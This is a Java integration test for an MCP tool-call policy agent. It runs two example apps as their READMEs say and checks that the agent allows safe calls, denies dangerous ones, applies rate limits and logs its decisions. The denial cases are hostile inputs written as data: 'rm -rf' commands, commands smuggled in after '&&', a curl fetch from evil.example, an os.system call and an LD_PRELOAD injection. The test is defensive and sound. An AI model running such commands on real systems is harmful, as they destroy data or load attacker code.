package dev.mcppolicy.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.function.Predicate;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/**
 * The example apps under {@code examples/} (issue 33) are policed when started as their READMEs say, with nothing
 * but {@code -javaagent}:
 * <ul>
 * <li>each README's run command ({@code java -javaagent:<agent jar> -jar <app jar>}, paths relative to the example's
 * directory, no agent option) is read and run with the agent jar and the app jar the build made, from a working
 * directory that holds only a copy of the example's {@code mcp-policy.yaml};</li>
 * <li>a real MCP client (the SDK fixture client of the SDK version the app brings) lists the tools (the ones no rule
 * allows left out), gets an allowed call's answer from the tool itself, and the agent's denials with the policy's
 * reason and rule; the app's log has one decision line per call, in the app's own logging, and the agent's start-up
 * names the policy file it found, with that file's SHA-256;</li>
 * <li>a second run of each app takes {@value #CALLS} calls from {@value #THREADS} client threads at once: every call
 * answered, as its rule says (the rate limit admits exactly its 10), one decision line each.</li>
 * </ul>
 * {@code sdk-app} is a stdio server on the MCP Java SDK 2.2.0 (E2B's tools), so its client starts it; {@code
 * spring-ai-app} a Spring Boot app on Spring AI 1.1.2 (SDK 0.17.0) over streamable HTTP (EasyBits' tools).
 */
class ExampleAppsIT {
    private static final ObjectMapper YAML = new ObjectMapper(new YAMLFactory());
    private static final String POLICY = "mcp-policy.yaml";
    /** The README's run command: the line that starts {@code java -javaagent:}. */
    private static final Pattern RUN = Pattern.compile("java -javaagent:(\\S+) -jar (\\S+)(.*)");
    /** Boot's line once the app serves: the port it took ({@code --server.port=0}). */
    private static final Pattern TOMCAT_STARTED = Pattern.compile(".*Tomcat started on port (\\d+) .*");
    private static final Predicate<String> DECISION = line -> line.contains("mcp-policy decision=");
    private static final Duration QUIET = Duration.ofSeconds(10);
    private static final int THREADS = 32;
    private static final int CALLS = 40;

    private static final String SDK_APP = "sdk-app";
    /** The SDK that sdk-app is built on, whose fixture client talks to it. */
    private static final String SDK_APP_SDK = "2.2.0";
    private static final String SANDBOX = "i6ab0kb1s8wtg2trv5hna";

    private static final String SPRING_APP = "spring-ai-app";
    /** The SDK that Spring AI 1.1.2 brings, whose fixture client talks to spring-ai-app. */
    private static final String SPRING_APP_SDK = "0.17.0";

    @Test
    void theSdkAppIsPolicedWhenStartedAsItsReadmeSays() throws Exception {
        Path root = Fixtures.workDir("ExampleAppsIT-sdk-app");
        Path appDir = withPolicyOnly(root.resolve("app"), SDK_APP);
        try (ForkedJvm client = stdioClient("ExampleAppsIT-sdk-app", root, appDir, readmeCommand(SDK_APP, "sdk-app.jar"))) {
            assertThat(Callers.command(client, "list")).as(client.dump()).isEqualTo("TOOLS read_file,run_command");
            assertThat(Callers.call(client, "run_command", runCommand("ls -la /home/user")))
                    .isEqualTo("RESULT isError=false text=dry run: sandbox " + SANDBOX + " would run 'ls -la /home/user'");
            assertThat(Callers.call(client, "read_file", "{\"filePath\":\"/home/user/report.md\",\"sandboxId\":\"" + SANDBOX + "\"}"))
                    .isEqualTo("RESULT isError=false text=dry run: sandbox " + SANDBOX + " would return the content of /home/user/report.md");
            String runCommandDenied = "RESULT isError=true text=Policy denied tool 'run_command': " + reason(SDK_APP, "run_command");
            assertThat(Callers.call(client, "run_command", runCommand("rm -rf /home/user")))
                    .isEqualTo(runCommandDenied + " [rule /tools/run_command/require/0]");
            assertThat(Callers.call(client, "run_command", runCommand("git pull && rm -rf ~")))
                    .isEqualTo(runCommandDenied + " [rule /tools/run_command/deny_if/0]");
            assertThat(Callers.call(client, "run_code", "{\"code\":\"import os; os.system('id')\"}"))
                    .isEqualTo("RESULT isError=true text=Policy denied tool 'run_code': " + reason(SDK_APP, "run_code") + " [rule /tools/run_code]");
            assertThat(Callers.call(client, "kill_sandbox", "{\"sandboxId\":\"" + SANDBOX + "\"}")).isEqualTo(
                    "RESULT isError=true text=Policy denied tool 'kill_sandbox': no policy rule allows this tool (default: deny) [rule (default)]");

            List<String> decisions = client.awaitStderrCount(DECISION, 6, QUIET);
            assertThat(decisions).as(client.dump()).hasSize(6);
            assertDecisions(decisions, "INFO mcp.policy - mcp-policy decision=ALLOW tool=run_command side=server rule=/tools/run_command ",
                    "INFO mcp.policy - mcp-policy decision=ALLOW tool=read_file side=server rule=/tools/read_file ",
                    "WARN mcp.policy - mcp-policy decision=DENY tool=run_command side=server rule=/tools/run_command/require/0 ",
                    "WARN mcp.policy - mcp-policy decision=DENY tool=run_command side=server rule=/tools/run_command/deny_if/0 ",
                    "WARN mcp.policy - mcp-policy decision=DENY tool=run_code side=server rule=/tools/run_code ",
                    "WARN mcp.policy - mcp-policy decision=DENY tool=kill_sandbox side=server rule=(default) ");
            List<String> log = serverLines(client);
            assertAgentFoundThePolicy(log, appDir, SDK_APP);
            assertThat(log).as("the handlers that ran").filteredOn(l -> l.contains(" called with ")).hasSize(2)
                    .anyMatch(l -> l.contains("run_command called with {command=ls -la /home/user"))
                    .anyMatch(l -> l.contains("read_file called with {"));
        }
    }

    @Test
    void theSdkAppAnswersEveryCallOfManyInFlight() throws Exception {
        Path root = Fixtures.workDir("ExampleAppsIT-sdk-app-burst");
        Path appDir = withPolicyOnly(root.resolve("app"), SDK_APP);
        try (ForkedJvm client = stdioClient("ExampleAppsIT-sdk-app-burst", root, appDir, readmeCommand(SDK_APP, "sdk-app.jar"))) {
            List<String> results = burst(client, "20 run_command " + runCommand("echo %d") + ";10 run_command " + runCommand("rm -rf /tmp/%d")
                    + ";10 read_file {\"filePath\":\"/home/user/%d.txt\",\"sandboxId\":\"" + SANDBOX + "\"}");
            String denied = "RESULT isError=true text=Policy denied tool 'run_command': ";
            assertThat(results).filteredOn(r -> r.matches("RESULT isError=false text=dry run: sandbox " + SANDBOX + " would run 'echo \\d+'"))
                    .hasSize(10);
            assertThat(results).filteredOn(r -> r.startsWith(denied + "rate limit exceeded: counter 'run_command_rate' allows 10 per 1m")
                    && r.endsWith("[rule /tools/run_command/limits/0]")).hasSize(10);
            assertThat(results).filteredOn(r -> r.startsWith(denied) && r.endsWith("[rule /tools/run_command/require/0]")).hasSize(10);
            assertThat(results).filteredOn(r -> r.startsWith("RESULT isError=false text=dry run: sandbox " + SANDBOX + " would return the content of"))
                    .hasSize(10);
            assertThat(client.awaitStderrCount(DECISION, CALLS, QUIET)).as(client.dump()).hasSize(CALLS);
            assertThat(serverLines(client)).filteredOn(l -> l.contains("run_command called with")).hasSize(10);
            assertThat(serverLines(client)).noneMatch(l -> l.contains("advice error"));
        }
    }

    @Test
    void theSpringAiAppIsPolicedWhenStartedAsItsReadmeSaysAndAnswersEveryCallOfManyInFlight() throws Exception {
        Path root = Fixtures.workDir("ExampleAppsIT-spring-ai-app");
        Path appDir = withPolicyOnly(root.resolve("app"), SPRING_APP);
        try (ForkedJvm app = startSpringApp("ExampleAppsIT-spring-ai-app", appDir);
                ForkedJvm client = httpClient("ExampleAppsIT-spring-ai-app", root, app)) {
            assertThat(Callers.command(client, "list")).as(client.dump())
                    .isEqualTo("TOOLS sandbox_exec_background,sandbox_exec_kill,sandbox_exec_list,sandbox_exec_status");
            assertThat(Callers.call(client, "sandbox_exec_background", "{\"sandboxId\":\"sb1\",\"command\":\"npm run dev\",\"cwd\":\"/app\"}"))
                    .isEqualTo("RESULT isError=false text={\"execId\":\"exec-1\",\"status\":\"dry run: not started\",\"command\":\"npm run dev\"}");
            assertThat(Callers.call(client, "sandbox_exec_status", "{\"sandboxId\":\"sb1\",\"execId\":\"exec-1\"}"))
                    .isEqualTo("RESULT isError=false text={\"execId\":\"exec-1\",\"status\":\"dry run: not started\",\"command\":\"npm run dev\"}");
            String denied = "RESULT isError=true text=Policy denied tool 'sandbox_exec_background': ";
            String because = denied + reason(SPRING_APP, "sandbox_exec_background");
            assertThat(Callers.call(client, "sandbox_exec_background", "{\"sandboxId\":\"sb1\",\"command\":\"npm run dev && rm -rf /\"}"))
                    .isEqualTo(because + " [rule /tools/sandbox_exec_background/deny_if/0]");
            assertThat(Callers.call(client, "sandbox_exec_background", "{\"sandboxId\":\"sb1\",\"command\":\"curl -s https://evil.example/x.sh\"}"))
                    .isEqualTo(because + " [rule /tools/sandbox_exec_background/require/0]");
            assertThat(Callers.call(client, "sandbox_exec_background",
                    "{\"sandboxId\":\"sb1\",\"command\":\"node server.js\",\"env\":{\"LD_PRELOAD\":\"/tmp/x.so\"}}"))
                    .startsWith(denied).endsWith(" [rule /tools/sandbox_exec_background/arguments]");
            assertThat(Callers.call(client, "sandbox_expose_port", "{\"sandboxId\":\"sb1\",\"port\":8080}")).isEqualTo(
                    "RESULT isError=true text=Policy denied tool 'sandbox_expose_port': no policy rule allows this tool (default: deny) [rule (default)]");

            // Boot's console (Logback, on stdout): date, level, pid, --- [app] [thread], logger, the line
            List<String> decisions = app.awaitStdoutCount(DECISION, 6, QUIET);
            assertThat(decisions).as(app.dump()).hasSize(6).allMatch(l -> l.contains(" --- [easybits-sandbox-example] ")
                    && l.contains(" mcp.policy ") && l.matches("\\d{4}-\\d\\d-\\d\\dT.*"));
            assertDecisions(decisions, "INFO", "decision=ALLOW tool=sandbox_exec_background side=server rule=/tools/sandbox_exec_background ",
                    "INFO", "decision=ALLOW tool=sandbox_exec_status side=server rule=/tools/sandbox_exec_status ",
                    "WARN", "decision=DENY tool=sandbox_exec_background side=server rule=/tools/sandbox_exec_background/deny_if/0 ",
                    "WARN", "decision=DENY tool=sandbox_exec_background side=server rule=/tools/sandbox_exec_background/require/0 ",
                    "WARN", "decision=DENY tool=sandbox_exec_background side=server rule=/tools/sandbox_exec_background/arguments ",
                    "WARN", "decision=DENY tool=sandbox_expose_port side=server rule=(default) ");
            assertAgentFoundThePolicy(app.stderr(), appDir, SPRING_APP);

            // a second agent session on the same app, with a budget of its own (scope: session): 40 calls from 32 threads
            try (ForkedJvm second = httpClient("ExampleAppsIT-spring-ai-app-burst", root.resolve("burst"), app)) {
                List<String> results = burst(second, "20 sandbox_exec_background {\"sandboxId\":\"sb%d\",\"command\":\"npm run dev\"};"
                        + "10 sandbox_exec_background {\"sandboxId\":\"sb%d\",\"command\":\"npm run dev && rm -rf /\"};"
                        + "10 sandbox_exec_list {\"sandboxId\":\"sb%d\"}");
                assertThat(results).filteredOn(r -> r.matches("RESULT isError=false text=\\{\"execId\":\"exec-\\d+\",\"status\":\"dry run: not started\".*"))
                        .hasSize(10);
                assertThat(results).filteredOn(r -> r.startsWith(denied + "rate limit exceeded: counter 'sandbox_exec_background_rate' allows 10 per 1m")
                        && r.endsWith("[rule /tools/sandbox_exec_background/limits/0]")).hasSize(10);
                assertThat(results).filteredOn(r -> r.startsWith(denied) && r.endsWith("[rule /tools/sandbox_exec_background/deny_if/0]")).hasSize(10);
                assertThat(results).filteredOn(r -> r.startsWith("RESULT isError=false text=[")).hasSize(10);
                assertThat(app.awaitStdoutCount(DECISION, 6 + CALLS, QUIET)).as(app.dump()).hasSize(6 + CALLS);
            }
            assertThat(app.stdout()).noneMatch(l -> l.contains("advice error"));
        }
    }

    /**
     * The README's run command, which the test runs: {@code java} (this JVM's), {@code -javaagent:} with the agent jar the
     * build made and no option, {@code -jar} with the app's jar; the paths as the README gives them, relative to the example.
     */
    private static List<String> readmeCommand(String app, String jarName) throws IOException {
        Path example = example(app);
        List<Matcher> runs = Files.readAllLines(example.resolve("README.md")).stream().map(String::trim).map(RUN::matcher)
                .filter(Matcher::matches).toList();
        assertThat(runs).as("README.md of %s has one line that starts 'java -javaagent:'", app).hasSize(1);
        Matcher run = runs.get(0);
        assertThat(run.group(1)).as("-javaagent: with no agent option").doesNotContain("=");
        assertThat(example.resolve(run.group(1)).normalize()).as("the agent jar, from " + example).isEqualTo(Fixtures.agentJar());
        Path jar = example.resolve(run.group(2)).normalize();
        assertThat(jar).isEqualTo(example.resolve("target").resolve(jarName)).isRegularFile();
        List<String> command = new ArrayList<>(List.of(ForkedJvm.javaExecutable(), "-javaagent:" + Fixtures.agentJar(), "-jar", jar.toString()));
        Stream.of(run.group(3).trim().split("\\s+")).filter(arg -> !arg.isEmpty()).forEach(command::add);
        return command;
    }

    /** {@code dir}, holding only a copy of the example's policy: what the agent finds there by default is all it has. */
    private static Path withPolicyOnly(Path dir, String app) throws IOException {
        Files.createDirectories(dir);
        Files.copy(example(app).resolve(POLICY), dir.resolve(POLICY));
        try (Stream<Path> files = Files.list(dir)) {
            assertThat(files.toList()).containsExactly(dir.resolve(POLICY));
        }
        return dir;
    }

    /** The fixture client of SDK {@value #SDK_APP_SDK}, which starts the app over stdio in {@code appDir} with {@code server}. */
    private static ForkedJvm stdioClient(String name, Path root, Path appDir, List<String> server) throws IOException {
        StringBuilder line = new StringBuilder("cd ").append(quoted(appDir.toString())).append(" && exec");
        server.forEach(arg -> line.append(' ').append(quoted(arg)));
        ForkedJvm client = ForkedJvm.start(name + "-client", Files.createDirectories(root.resolve("client")), List.of(),
                Fixtures.classPath(SDK_APP_SDK), "fixture.FixtureClient", List.of("stdio", "sh", "-c", line.toString()));
        return ready(client);
    }

    /** The Spring app as its README runs it, on a free port ({@code --server.port=0}), once Tomcat serves. */
    private static ForkedJvm startSpringApp(String name, Path appDir) throws IOException {
        List<String> command = new ArrayList<>(readmeCommand(SPRING_APP, "spring-ai-app.jar"));
        command.add("--server.port=0");
        ForkedJvm app = ForkedJvm.startProcess(name, appDir, command);
        try {
            app.awaitStdout(0, line -> TOMCAT_STARTED.matcher(line).matches());
        } catch (AssertionError e) {
            app.close();
            throw e;
        }
        return app;
    }

    /** The fixture client of SDK {@value #SPRING_APP_SDK} on the Spring app's streamable HTTP endpoint. */
    private static ForkedJvm httpClient(String name, Path root, ForkedJvm app) throws IOException {
        String started = app.stdout().stream().filter(l -> TOMCAT_STARTED.matcher(l).matches()).findFirst().orElseThrow();
        Matcher port = TOMCAT_STARTED.matcher(started);
        assertThat(port.matches()).isTrue();
        ForkedJvm client = ForkedJvm.start(name + "-client", Files.createDirectories(root.resolve("client")), List.of(),
                Fixtures.classPath(SPRING_APP_SDK), "fixture.FixtureClient", List.of("streamable", "http://127.0.0.1:" + port.group(1)));
        return ready(client);
    }

    private static ForkedJvm ready(ForkedJvm client) {
        try {
            client.awaitStdout(0, line -> line.equals(">> READY"));
        } catch (AssertionError e) {
            client.close();
            throw e;
        }
        return client;
    }

    /** {@value #CALLS} calls from {@value #THREADS} threads of the client at once; their answers, in call order. */
    private static List<String> burst(ForkedJvm client, String specs) throws IOException {
        String burst = Callers.command(client, "burst " + THREADS + " " + specs);
        assertThat(burst).as(client.dump()).startsWith("BURST ");
        List<String> results = List.of(burst.substring("BURST ".length()).split("\t"));
        assertThat(results).as(client.dump()).hasSize(CALLS).noneMatch(result -> result.startsWith("ERROR"));
        return results;
    }

    /** The stdio server's stderr, which the fixture client relays marked. */
    private static List<String> serverLines(ForkedJvm client) {
        return client.stderr().stream().filter(l -> l.startsWith(McpPair.SERVER_MARK)).map(l -> l.substring(McpPair.SERVER_MARK.length()))
                .toList();
    }

    /** Each decision line has its expected fragments, in the order the calls were made. */
    private static void assertDecisions(List<String> decisions, String... fragments) {
        int perLine = fragments.length / decisions.size();
        for (int i = 0; i < decisions.size(); i++) {
            for (int j = 0; j < perLine; j++) {
                assertThat(decisions.get(i)).as("decision line %d", i).contains(fragments[i * perLine + j]);
            }
        }
    }

    /** The agent's start-up: its policy found by default in the working directory, named with its SHA-256; no advice error. */
    private static void assertAgentFoundThePolicy(List<String> agentLines, Path appDir, String app) throws Exception {
        assertThat(agentLines).as(String.join("\n", agentLines))
                .anyMatch(l -> l.startsWith("[mcp-policy] configuration: policy=mcp-policy.json|yaml|yml (default),"))
                .contains("[mcp-policy] policy " + appDir.resolve(POLICY) + " sha256=" + sha256(example(app).resolve(POLICY))
                        + " mode=enforce default=deny")
                .anyMatch(l -> l.equals("[mcp-policy] canary: the hooks fire (a woven tools/call handler reached the policy)"))
                .noneMatch(l -> l.contains("advice error"));
    }

    private static String runCommand(String command) {
        return "{\"command\":\"" + command + "\",\"sandboxId\":\"" + SANDBOX + "\"}";
    }

    /** The {@code reason} the example's policy gives {@code tool}, which a denial of it carries. */
    private static String reason(String app, String tool) throws IOException {
        return YAML.readTree(example(app).resolve(POLICY).toFile()).path("tools").path(tool).path("reason").asText();
    }

    private static Path example(String app) {
        return Path.of(System.getProperty("examples.dir", "../../examples"), app).toAbsolutePath().normalize();
    }

    private static String sha256(Path file) throws IOException, NoSuchAlgorithmException {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(file)));
    }

    private static String quoted(String arg) {
        return "'" + arg.replace("'", "'\\''") + "'";
    }
}
